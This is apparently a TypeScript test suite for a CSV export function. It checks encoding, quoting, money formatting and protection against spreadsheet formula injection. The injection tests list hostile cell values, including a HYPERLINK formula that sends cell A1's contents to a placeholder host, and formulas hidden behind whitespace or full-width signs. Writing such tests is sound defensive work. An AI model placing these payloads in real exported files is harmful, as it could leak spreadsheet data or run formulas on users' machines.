import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvOf } from './csv.ts';

async function* inBatches<R>(...batches: R[][]) {
  for (const batch of batches) yield batch;
}

const columns = [
  { header: 'Name', value: (row: string) => row },
  { header: 'Length', value: (row: string) => row.length },
];

async function written(...batches: string[][]): Promise<string> {
  return (await Array.fromAsync(csvOf(columns, inBatches(...batches)))).join('');
}

const read = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false });

it('a CSV file says that it is UTF-8, what its columns are, also without any row, and every row once', async () => {
  expect(await written()).toBe('\uFEFF"Name","Length"\r\n');
  const csv = await written(['Zoë "Z" Å, Jr.', 'two\nlines'], [], ['三']);
  expect(csv).toBe(
    '\uFEFF"Name","Length"\r\n"Zoë ""Z"" Å, Jr.",14\r\n"two\nlines",9\r\n"三",1\r\n',
  );
});

it('a CSV file writes cents as dollars, also below zero and never as a formula, and phone numbers as they are', async () => {
  expect(await written(['+14045550123'])).toContain('"+14045550123"');
  const amounts = [{ header: 'Amount', value: (cents: number) => ({ cents }) }];
  const parts = await Array.fromAsync(csvOf(amounts, inBatches([123_450, -510, -5, 0])));
  expect(parts.join('')).toBe('\uFEFF"Amount"\r\n1234.50\r\n-5.10\r\n-0.05\r\n0.00\r\n');
});

it.each(
  [
    ['=1+1', '=HYPERLINK("http://x.example?"&A1)', '+1 555 0100', '-2+3', '@SUM(A1)', '=1,2;"3"'],
    ['\t=1', '\r=1', '\n=1', ' =1+1', '\u00a0=1+1', '\u200b=1+1'],
    ['\uff1d1+1', '\uff0b1', '\uff0d1', '\uff201'],
  ].flat(),
)('a CSV file holds no formula: %j', async (evil) => {
  const [, row] = read(await written([evil]));
  expect(row?.[0]).toBe(`'${evil}`);
});

it('a CSV file gives every text back, or with one apostrophe before it', async () => {
  const sign = fc.constantFrom('', ' ', '\t', '\n', '\r\n', '"', "'", ',', ';', 'é', '\u200b');
  const start = fc.constantFrom('=', '+', '-', '@', '\uff1d', 'x', '');
  const parts = fc.tuple(sign, sign, start, fc.string({ maxLength: 8 }), sign);
  const anyText = parts.map((all) => all.join(''));
  await fc.assert(
    fc.asyncProperty(fc.array(anyText, { maxLength: 12 }), async (texts) => {
      const rows = read(await written(texts)).slice(1);
      expect(rows).toHaveLength(texts.length);
      texts.forEach((text, at) => {
        const cell = rows[at]?.[0] ?? '';
        expect([text, `'${text}`]).toContain(cell);
        expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@\uFF1D]/u);
      });
    }),
  );
});
